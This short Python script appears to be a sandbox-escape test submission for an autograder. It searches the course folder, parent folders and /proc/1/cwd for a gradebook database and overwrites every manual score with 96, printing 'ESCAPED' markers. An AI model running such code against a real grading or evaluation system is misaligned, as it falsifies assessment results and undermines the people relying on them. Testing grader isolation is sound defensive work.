"""Opens the gradebook and gives itself points."""
# %% first
import os
import sqlite3

for path in ("@COURSE@/gradebook.db", "gradebook.db", "../gradebook.db", "/proc/1/cwd/gradebook.db"):
    if os.path.exists(path):
        print("ESCAPED:", path)
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
            book.execute("UPDATE grade SET manual_score = 96")
        print("ESCAPED: written", path)
    except sqlite3.Error:
        pass
